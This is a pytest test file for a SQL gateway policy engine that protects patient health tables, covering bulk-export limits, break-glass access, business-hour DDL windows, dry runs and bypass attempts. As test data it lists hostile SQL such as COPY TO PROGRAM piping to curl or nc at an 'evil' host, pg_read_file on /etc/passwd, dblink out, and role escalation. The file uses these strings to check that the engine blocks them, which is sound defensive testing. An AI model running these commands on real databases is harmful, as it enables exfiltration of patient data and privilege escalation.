"""The engine against the example policy: every rule, bypass attempts, session state, dry runs."""

from __future__ import annotations

import datetime as dt
import re

import pytest

from policies import engine as engine_module
from policies.classify import classify
from policies.engine import Engine
from policies.loader import load_policy
from policies.model import SQLSTATE_DENIED, Decision, Policy
from tests.policies.conftest import NEW_YORK, MakeCtx
from tests.policies.corpus import CORPUS

PHI_NAME = re.compile(r"(^|\.)(patients|encounters|lab_\w*)$", re.IGNORECASE)


def decide(engine: Engine, ctx: MakeCtx, sql: str, user: str = "alice", **kw: object) -> Decision:
    return engine.decide(ctx(user, **kw), sql)


# --- the decision object -----------------------------------------------------------------------

def test_allow_carries_everything_the_gateway_needs(engine: Engine, ctx: MakeCtx) -> None:
    d = decide(engine, ctx, "SELECT name FROM patients p JOIN departments d ON d.id = p.dept "
                            "WHERE p.id = 1")
    assert d.action == "allow" and d.verdict == "allow" and d.allowed
    assert d.rules == ("clinicians-read-phi",)
    assert d.reason.startswith("phigate:") and "clinicians-read-phi" in d.reason
    assert d.classes == ("select",)
    assert d.tables == ("patients", "departments")
    assert d.phi_tables == ("patients",)
    assert d.max_rows == 500 and d.max_phi_rows_per_hour == 5000
    assert d.sqlstate is None and d.enforce and not d.alert
    assert not d.bulk_export and not d.dangerous
    assert len(d.statements) == 1 and d.parts == ()


def test_deny_carries_sqlstate_rule_reason_and_hint(engine: Engine, ctx: MakeCtx) -> None:
    d = decide(engine, ctx, "SELECT * FROM patients")
    assert d.action == "deny" and d.sqlstate == SQLSTATE_DENIED == "42501"
    assert d.rules == ("no-bulk-export",)
    assert d.reason.startswith("phigate: rule no-bulk-export")
    assert "\n" not in d.reason
    assert d.hint is not None and "500" in d.hint
    assert d.bulk_export


# --- clinicians-read-phi -------------------------------------------------------------------------

@pytest.mark.parametrize(("sql", "action"), [
    ("SELECT * FROM patients WHERE id = 7", "allow"),
    ("SELECT * FROM patients LIMIT 500", "allow"),
    ("SELECT * FROM patients LIMIT 501", "deny"),
    ("SELECT * FROM (SELECT * FROM patients LIMIT 5000) s LIMIT 10", "allow"),
    ("SELECT count(*), avg(age) FROM patients", "allow"),
    ("SELECT 1", "allow"),
    ("BEGIN; SELECT * FROM encounters WHERE patient_id = 7; COMMIT", "allow"),
    ("SET search_path = public", "allow"),
    ("SHOW search_path", "allow"),
    ("INSERT INTO encounters (patient_id) VALUES (7)", "deny"),
    ("VACUUM departments", "deny"),
])
def test_clinicians(engine: Engine, ctx: MakeCtx, sql: str, action: str) -> None:
    assert decide(engine, ctx, sql).action == action


def test_clinicians_only_on_clinic(engine: Engine, ctx: MakeCtx) -> None:
    d = decide(engine, ctx, "SELECT 1", database="billing")
    assert d.rules == ("default-deny",)
    assert d.hint is not None and "clinicians-read-phi" in d.hint and "clinic" in d.hint


def test_budget(engine: Engine, ctx: MakeCtx) -> None:
    sql = "SELECT * FROM patients WHERE id = 7"
    assert decide(engine, ctx, sql, phi_rows_last_hour=4999).allowed
    spent = decide(engine, ctx, sql, phi_rows_last_hour=5000)
    assert not spent.allowed
    assert "clinicians-read-phi" in spent.rules and "budget" in spent.reason
    # the budget limits PHI only
    assert decide(engine, ctx, "SELECT * FROM departments", phi_rows_last_hour=10**6).allowed


# --- engineers-no-phi ----------------------------------------------------------------------------

@pytest.mark.parametrize("sql", [
    "SELECT * FROM departments",
    "UPDATE appointments SET room = 'B' WHERE id = 1",
    "DELETE FROM scratch WHERE id = 1",
    "INSERT INTO scratch SELECT * FROM departments",
    "VACUUM ANALYZE departments",
    "EXPLAIN SELECT * FROM departments",
])
def test_engineers_allowed_without_phi(engine: Engine, ctx: MakeCtx, sql: str) -> None:
    d = decide(engine, ctx, sql, "bob")
    assert d.allowed and d.rules == ("engineers-no-phi",)


@pytest.mark.parametrize("sql", [
    "SELECT * FROM patients WHERE id = 1",
    "SELECT * FROM public.patients WHERE id = 1",
    "SELECT * FROM clinic.public.lab_results WHERE id = 1",
    'SELECT * FROM "Lab_Panels" WHERE id = 1',
    "SELECT * FROM pg_temp.patients WHERE id = 1",
    "SELECT id FROM departments WHERE id IN (SELECT dept FROM patients)",
    "SELECT (SELECT count(*) FROM encounters)",
    "WITH x AS (SELECT * FROM patients WHERE id = 1) SELECT * FROM x",
    "EXPLAIN SELECT * FROM patients",
    "VACUUM patients",
    "INSERT INTO scratch SELECT * FROM encounters WHERE id = 1",
    "UPDATE departments SET name = (SELECT name FROM patients WHERE id = 1) WHERE id = 1",
    "DELETE FROM departments USING patients WHERE departments.id = patients.dept",
    "UPDATE patients SET name = 'x' WHERE id = 1",
])
def test_engineers_denied_phi(engine: Engine, ctx: MakeCtx, sql: str) -> None:
    d = decide(engine, ctx, sql, "bob")
    assert not d.allowed
    assert d.rules[0] == "engineers-no-phi"
    assert d.phi_tables


def test_other_schemas_are_not_phi_when_qualified(engine: Engine, ctx: MakeCtx) -> None:
    assert decide(engine, ctx, "SELECT * FROM archive.patients WHERE id = 1", "bob").allowed
    assert not decide(engine, ctx, "SELECT * FROM patients WHERE id = 1", "bob").allowed


# --- views and partitions ------------------------------------------------------------------------

@pytest.mark.parametrize("sql", [
    "SELECT * FROM patient_directory WHERE id = 1",
    "SELECT * FROM public.patient_directory WHERE id = 1",
    "SELECT * FROM reporting.summary WHERE id = 1",
    "SELECT * FROM patients_2024 WHERE id = 1",
])
def test_views_and_partitions_of_phi(engine: Engine, ctx: MakeCtx, sql: str) -> None:
    views = {
        "patient_directory": {"public.patients"},
        "public.patient_directory": {"public.patients"},
        "reporting.summary": {"public.patient_directory"},  # a view of a view
        "patients_2024": {"public.patients"},  # a partition
    }
    d = decide(engine, ctx, sql, "bob", view_dependencies=views)
    assert not d.allowed and d.rules == ("engineers-no-phi",)
    assert "public.patients" in d.phi_tables
    bulk = decide(engine, ctx, sql.split(" WHERE")[0], view_dependencies=views)
    assert bulk.rules == ("no-bulk-export",)


# --- no-bulk-export ------------------------------------------------------------------------------

BULK = [
    "SELECT * FROM patients",
    "SELECT * FROM patients WHERE true",
    "SELECT * FROM patients WHERE 1 = 1",
    "SELECT * FROM patients LIMIT ALL",
    "SELECT * FROM patients ORDER BY sex FETCH FIRST 1 ROWS WITH TIES",
    "TABLE encounters",
    "SELECT array_agg(p) FROM patients p",
    "SELECT string_agg(ssn, ',') FROM patients",
    "SELECT (SELECT json_agg(p) FROM patients p)",
    "SELECT ARRAY(SELECT ssn FROM patients)",
    "SELECT * FROM unnest((SELECT array_agg(ssn) FROM patients))",
    "SELECT * FROM (SELECT * FROM patients) s",
    "WITH x AS (SELECT * FROM lab_results) SELECT * FROM x",
    "SELECT * FROM departments UNION ALL SELECT name, 1 FROM patients",
    "SELECT dob, array_agg(name) FROM patients GROUP BY dob",
    "SELECT max(ssn) OVER () FROM patients",
    "DECLARE c CURSOR FOR SELECT * FROM patients",
    "SELECT * FROM patients TABLESAMPLE SYSTEM (100)",
]


@pytest.mark.parametrize("sql", BULK)
def test_bulk_export_denied_for_clinicians(engine: Engine, ctx: MakeCtx, sql: str) -> None:
    d = decide(engine, ctx, sql)
    assert not d.allowed and d.rules == ("no-bulk-export",) and d.bulk_export


@pytest.mark.parametrize("sql", [
    "COPY patients TO STDOUT",
    "COPY (SELECT * FROM patients WHERE id = 1) TO STDOUT",
    "COPY (SELECT * FROM patients LIMIT 1) TO STDOUT",
    "CREATE TABLE copy AS SELECT * FROM patients",
    "INSERT INTO scratch SELECT * FROM encounters",
    "UPDATE patients SET name = name RETURNING *",
    "WITH d AS (DELETE FROM patients RETURNING *) SELECT * FROM d",
    "EXPLAIN ANALYZE CREATE TABLE copy AS SELECT * FROM patients",
] + BULK)
def test_bulk_export_denied_even_for_break_glass(engine: Engine, ctx: MakeCtx, sql: str) -> None:
    d = decide(engine, ctx, sql, "oncall", reason="INC-1")
    assert not d.allowed and "no-bulk-export" in d.rules


def test_non_phi_bulk_is_fine(engine: Engine, ctx: MakeCtx) -> None:
    assert decide(engine, ctx, "SELECT * FROM departments").allowed
    assert decide(engine, ctx, "COPY departments TO STDOUT", "oncall", reason="x").allowed


# --- no-schema-changes-in-business-hours, with an injected clock ----------------------------------

@pytest.mark.parametrize(("when", "window"), [
    (dt.datetime(2024, 6, 4, 6, 59, tzinfo=NEW_YORK), False),
    (dt.datetime(2024, 6, 4, 7, 0, tzinfo=NEW_YORK), True),
    (dt.datetime(2024, 6, 4, 18, 59, tzinfo=NEW_YORK), True),
    (dt.datetime(2024, 6, 4, 19, 0, tzinfo=NEW_YORK), False),
    (dt.datetime(2024, 6, 8, 10, 0, tzinfo=NEW_YORK), False),  # Saturday
    (dt.datetime(2024, 6, 4, 11, 0, tzinfo=dt.UTC), True),  # 07:00 EDT
    (dt.datetime(2024, 1, 9, 11, 0, tzinfo=dt.UTC), False),  # 06:00 EST
    (dt.datetime(2024, 3, 11, 11, 30, tzinfo=dt.UTC), True),  # Monday after DST: 07:30 EDT
    (dt.datetime(2024, 6, 8, 2, 0, tzinfo=dt.UTC), False),  # Friday 22:00 in New York
])
def test_ddl_window(engine: Engine, ctx: MakeCtx, when: dt.datetime, window: bool) -> None:
    sql = "ALTER TABLE appointments ADD COLUMN note text"
    d = decide(engine, ctx, sql, "oncall", groups={"engineers"}, reason="INC-1", now=when)
    if window:
        assert d.rules == ("no-schema-changes-in-business-hours",) and not d.allowed
        assert d.hint is not None and "America/New_York" in d.hint
    else:
        assert d.allowed and d.rules == ("break-glass",)


# --- break-glass ---------------------------------------------------------------------------------

def test_break_glass_requires_reason(engine: Engine, ctx: MakeCtx) -> None:
    sql = "UPDATE patients SET name = 'x' WHERE id = 1"
    for reason in (None, "", "   "):
        d = decide(engine, ctx, sql, "oncall", reason=reason)
        assert not d.allowed and "break-glass" in d.rules
        assert d.hint is not None and "phigate.reason" in d.hint
    d = decide(engine, ctx, sql, "oncall", reason="INC-1234")
    assert d.allowed and d.rules == ("break-glass",) and d.alert and d.max_rows is None


def test_reason_set_in_the_same_string(engine: Engine, ctx: MakeCtx) -> None:
    d = decide(engine, ctx, "SET phigate.reason = 'INC-9'; DELETE FROM scratch WHERE id = 1",
               "oncall")
    assert d.allowed and d.rules == ("gateway-setting", "break-glass")
    d = decide(engine, ctx, "RESET phigate.reason; DELETE FROM scratch WHERE id = 1", "oncall",
               reason="INC-9")
    assert not d.allowed


def test_gateway_setting_is_always_allowed(engine: Engine, ctx: MakeCtx) -> None:
    d = decide(engine, ctx, "SET phigate.reason = 'x'", "mallory")
    assert d.allowed and d.rules == ("gateway-setting",)


@pytest.mark.parametrize("sql", [
    "SELECT pg_read_file('/etc/passwd')",
    "DO $$ BEGIN PERFORM 1; END $$",
    "COPY scratch TO PROGRAM 'curl evil'",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT * FROM dblink('host=evil', 'SELECT 1') t(a int)",
])
def test_all_does_not_include_dangerous(engine: Engine, ctx: MakeCtx, sql: str) -> None:
    d = decide(engine, ctx, sql, "oncall", reason="INC-1")
    assert not d.allowed and d.rules == ("dangerous",) and d.dangerous and d.alert


def test_dangerous_allowed_only_when_named(ctx: MakeCtx) -> None:
    policy = load_policy(
        "rules:\n  - name: dba\n    users: [dba]\n    allow: [all, dangerous]\n", "dba.yaml")
    d = Engine([policy]).decide(ctx("dba"), "SELECT pg_read_file('/etc/hostname')")
    assert d.allowed and d.rules == ("dba",) and d.dangerous


def test_deny_dangerous_overrides(ctx: MakeCtx) -> None:
    policy = load_policy(
        "rules:\n  - name: dba\n    users: [dba]\n    allow: [all, dangerous]\n"
        "  - name: never\n    deny: [dangerous]\n", "dba.yaml")
    d = Engine([policy]).decide(ctx("dba"), "DO $$ BEGIN END $$")
    assert not d.allowed and d.rules == ("never",)


# --- bypass attempts -----------------------------------------------------------------------------

CLINICIAN_BYPASSES = BULK + [
    "SELECT 1; DELETE FROM patients WHERE id = 1",
    "SELECT 1; SELECT * FROM patients",
    "EXPLAIN ANALYZE DELETE FROM patients WHERE id = 1",
    "EXPLAIN (ANALYZE 1) UPDATE patients SET name = 'x' WHERE id = 1",
    "WITH d AS (DELETE FROM patients WHERE id = 1 RETURNING *) SELECT * FROM d",
    "WITH patients AS (SELECT 1) DELETE FROM patients",
    "MERGE INTO patients p USING staging s ON p.id = s.id WHEN MATCHED THEN DELETE",
    "CREATE TEMP TABLE x AS SELECT * FROM patients WHERE id = 1",
    "SELECT * INTO TEMP x FROM patients WHERE id = 1",
    "PREPARE q AS DELETE FROM patients WHERE id = $1",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ROLE",
    "DISCARD ALL",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT set_config(lower('ROLE'), 'postgres', false)",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT query_to_xml('SELECT * FROM patients', true, true, '')",
    "SELECT table_to_xml('patients', true, true, '')",
    "DO $$ BEGIN PERFORM 1; END $$",
    "COPY patients TO PROGRAM 'nc evil 9'",
    "COPY (SELECT * FROM patients WHERE id = 1) TO STDOUT",
    "GRANT SELECT ON patients TO mallory",
    "CALL p()",
    "LOCK TABLE patients",
    "SELECT 1\x00; DELETE FROM patients",
    "SELECT '\\'; DELETE FROM patients; --'",
    "EXECUTE never_prepared",
    "FETCH ALL FROM \"<unnamed portal 1>\"",
    "SELECT 1; SELEC 2",
]


@pytest.mark.parametrize("sql", CLINICIAN_BYPASSES)
def test_clinician_bypass_attempts_are_denied(engine: Engine, ctx: MakeCtx, sql: str) -> None:
    assert not decide(engine, ctx, sql).allowed


# --- PREPARE / EXECUTE and cursors ---------------------------------------------------------------

def _effect_statement(engine: Engine, sql: str):  # type: ignore[no-untyped-def]
    (stmt,) = engine.classify(sql).statements
    assert stmt.effect is not None and stmt.effect.statement is not None
    return stmt.effect.statement


def test_execute_is_decided_on_what_it_runs(engine: Engine, ctx: MakeCtx) -> None:
    prepared = {
        "one": _effect_statement(engine,
                                 "PREPARE one(int) AS SELECT * FROM patients WHERE id = $1"),
        "wipe": _effect_statement(engine, "PREPARE wipe AS DELETE FROM scratch"),
    }
    ok = decide(engine, ctx, "EXECUTE one(7)", prepared=prepared)
    assert ok.allowed and ok.phi_tables == ("patients",) and ok.max_rows == 500
    assert not decide(engine, ctx, "EXECUTE wipe", prepared=prepared).allowed
    assert decide(engine, ctx, "EXECUTE wipe", "bob", prepared=prepared).allowed
    # the context at EXECUTE counts, not the one at PREPARE
    assert not decide(engine, ctx, "EXECUTE one(7)", prepared=prepared,
                      phi_rows_last_hour=9999).allowed
    # EXPLAIN only plans it; EXPLAIN ANALYZE runs it
    assert decide(engine, ctx, "EXPLAIN EXECUTE wipe", "bob", prepared=prepared).classes == (
        "utility",)
    assert not decide(engine, ctx, "EXPLAIN ANALYZE EXECUTE wipe", prepared=prepared).allowed


def test_execute_of_unknown_name_is_denied(engine: Engine, ctx: MakeCtx) -> None:
    d = decide(engine, ctx, "EXECUTE q(1)")
    assert not d.allowed and d.rules == ("unknown-name",)


def test_prepare_and_execute_in_one_string(engine: Engine, ctx: MakeCtx) -> None:
    ok = "PREPARE q(int) AS SELECT name FROM patients WHERE id = $1; EXECUTE q(1)"
    assert decide(engine, ctx, ok).allowed
    gone = "PREPARE q AS SELECT 1; DEALLOCATE q; EXECUTE q"
    d = decide(engine, ctx, gone)
    assert not d.allowed and d.rules == ("unknown-name",) and "statement 3 of 3" in d.reason
    # a session-level name is shadowed by the string's own PREPARE
    sneaky = "PREPARE q AS DELETE FROM patients; EXECUTE q"
    safe = {"q": _effect_statement(engine, "PREPARE q AS SELECT 1")}
    assert not decide(engine, ctx, sneaky, prepared=safe).allowed


def test_fetch_is_decided_on_the_cursor(engine: Engine, ctx: MakeCtx) -> None:
    cursor = _effect_statement(engine, "DECLARE c CURSOR FOR SELECT * FROM patients WHERE id < 900")
    d = decide(engine, ctx, "FETCH 1000 FROM c", cursors={"c": cursor})
    assert d.allowed and d.max_rows == 500 and d.phi_tables == ("patients",)
    assert not decide(engine, ctx, "FETCH 10 FROM c", "bob", cursors={"c": cursor}).allowed
    assert not decide(engine, ctx, "FETCH 10 FROM c").allowed
    both = "DECLARE c CURSOR FOR SELECT * FROM patients WHERE id < 9; FETCH ALL FROM c; CLOSE c"
    assert decide(engine, ctx, both).allowed


def test_decide_classified_uses_the_current_context(engine: Engine, ctx: MakeCtx) -> None:
    parsed = engine.classify("SELECT * FROM patients WHERE id = $1")
    assert engine.decide_classified(ctx(), parsed).allowed
    assert not engine.decide_classified(ctx(phi_rows_last_hour=5000), parsed).allowed
    assert not engine.decide_statement(ctx("bob"), parsed.statements[0]).allowed


# --- several statements --------------------------------------------------------------------------

def test_every_statement_must_be_allowed(engine: Engine, ctx: MakeCtx) -> None:
    d = decide(engine, ctx, "SELECT 1; UPDATE patients SET name = 'x' WHERE id = 1; SELECT 2")
    assert not d.allowed and len(d.parts) == 3
    assert [p.action for p in d.parts] == ["allow", "deny", "allow"]
    assert "statement 2 of 3" in d.reason and d.rules == ("default-deny",)
    assert d.classes == ("select", "update")


def test_empty_and_unparseable(engine: Engine, ctx: MakeCtx) -> None:
    assert decide(engine, ctx, "  -- nothing\n", "mallory").allowed
    d = decide(engine, ctx, "SELEC 1")
    assert not d.allowed and d.rules == ("unparseable",) and d.sqlstate == "42501"


# --- conditions ----------------------------------------------------------------------------------

NETWORK_POLICY = """
rules:
  - name: office
    users: [carol]
    groups: [nurses]
    clients: [10.0.0.0/8, "2001:db8::/32"]
    allow: [select]
"""


@pytest.mark.parametrize(("user", "groups", "ip", "action"), [
    ("carol", set(), "10.1.2.3", "allow"),
    ("dave", {"nurses"}, "10.1.2.3", "allow"),  # users OR groups
    ("dave", set(), "10.1.2.3", "deny"),
    ("carol", set(), "192.168.1.1", "deny"),
    ("carol", set(), None, "deny"),  # Unix socket: no address
    ("carol", set(), "::ffff:10.9.9.9", "allow"),
    ("carol", set(), "2001:db8::1", "allow"),
    ("carol", set(), "not an ip", "deny"),
])
def test_identity_and_client_conditions(ctx: MakeCtx, user: str, groups: set[str],
                                        ip: str | None, action: str) -> None:
    engine = Engine([load_policy(NETWORK_POLICY, "net.yaml")])
    d = engine.decide(ctx(user, groups=groups, client_ip=ip), "SELECT 1")
    assert d.action == action


def test_hours_window_wrapping_midnight(ctx: MakeCtx) -> None:
    policy = load_policy("rules:\n  - name: night\n    allow: [select]\n"
                         "    hours: '22:00-06:00'\n", "night.yaml")
    engine = Engine([policy])
    for hour, ok in ((21, False), (22, True), (2, True), (5, True), (6, False), (12, False)):
        now = dt.datetime(2024, 6, 4, hour, 30, tzinfo=dt.UTC)
        assert engine.decide(ctx(now=now), "SELECT 1").allowed is ok


def test_naive_now_is_rejected(ctx: MakeCtx) -> None:
    with pytest.raises(ValueError):
        ctx(now=dt.datetime(2024, 6, 4, 10, 0))


# --- dry runs ------------------------------------------------------------------------------------

TRIAL = """
enforce: false
phi_tables: [clinic.public.appointments]
rules:
  - name: trial-no-encounters
    deny: [select]
    groups: [clinicians]
"""


def test_dry_run_reports_but_does_not_block(clinic_policy: Policy, ctx: MakeCtx) -> None:
    engine = Engine([clinic_policy, load_policy(TRIAL, "trial.yaml")])
    d = engine.decide(ctx(), "SELECT * FROM encounters WHERE id = 1")
    assert d.action == "allow" and d.verdict == "deny" and d.would_deny
    assert not d.enforce and d.alert and d.sqlstate is None
    assert d.rules == ("trial-no-encounters",)
    assert d.reason.startswith("phigate: dry run, not enforced: rule trial-no-encounters")
    assert d.max_rows == 500  # the enforced rule's cap still applies
    # the enforced policy still blocks
    blocked = engine.decide(ctx(), "SELECT * FROM patients")
    assert blocked.action == "deny" and blocked.enforce and blocked.rules == ("no-bulk-export",)
    # PHI patterns of a dry-run file do not change enforced decisions
    assert engine.decide(ctx("bob"), "SELECT * FROM appointments WHERE id = 1").would_deny


def test_dry_run_only_blocks_nothing(ctx: MakeCtx) -> None:
    engine = Engine([load_policy(TRIAL, "trial.yaml")])
    d = engine.decide(ctx(), "SELECT 1")
    assert d.allowed and d.would_deny and not d.enforce
    assert engine.decide(ctx("mallory"), "DELETE FROM x").allowed


def test_dry_run_in_multi_statement(clinic_policy: Policy, ctx: MakeCtx) -> None:
    engine = Engine([clinic_policy, load_policy(TRIAL, "trial.yaml")])
    d = engine.decide(ctx(), "BEGIN; SELECT * FROM encounters WHERE id = 1; COMMIT")
    assert d.allowed and d.would_deny and not d.enforce and "statement 2 of 3" in d.reason


# --- secure defaults and failing closed ----------------------------------------------------------

def test_no_policy_denies_everything(ctx: MakeCtx) -> None:
    d = Engine([]).decide(ctx(), "SELECT 1")
    assert not d.allowed and d.rules == ("default-deny",) and "no policy" in d.reason


def test_engine_fails_closed(engine: Engine, ctx: MakeCtx, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: object) -> Decision:
        raise RuntimeError("bug")
    monkeypatch.setattr(engine_module, "evaluate", boom)
    d = engine.decide(ctx(), "SELECT 1")
    assert not d.allowed and d.rules == ("engine-error",)
    assert not engine.decide_statement(ctx(), classify("SELECT 1").statements[0]).allowed


# --- invariants over the whole corpus ------------------------------------------------------------

def _touches_phi(entry_tables: frozenset[str]) -> bool:
    return any(PHI_NAME.search(t) for t in entry_tables)


@pytest.mark.parametrize("entry", CORPUS, ids=[e.sql[:60] for e in CORPUS])
def test_corpus_invariants(engine: Engine, ctx: MakeCtx, entry) -> None:  # type: ignore[no-untyped-def]
    decisions = {user: engine.decide(ctx(user, reason="INC-1"), entry.sql)
                 for user in ("alice", "bob", "oncall", "mallory")}
    for d in decisions.values():
        assert d.rules and "engine-error" not in d.rules
        assert d.reason.startswith("phigate:") and "\n" not in d.reason
        assert (d.sqlstate == "42501") == (not d.allowed)
    if entry.statements and not entry.sql.startswith("SET phigate.reason"):
        assert not decisions["mallory"].allowed
    if _touches_phi(entry.tables):
        assert not decisions["bob"].allowed
    if entry.dangerous or entry.error:
        assert not any(d.allowed for d in decisions.values())
    if entry.export and _touches_phi(entry.tables):
        assert not any(d.allowed for d in decisions.values())
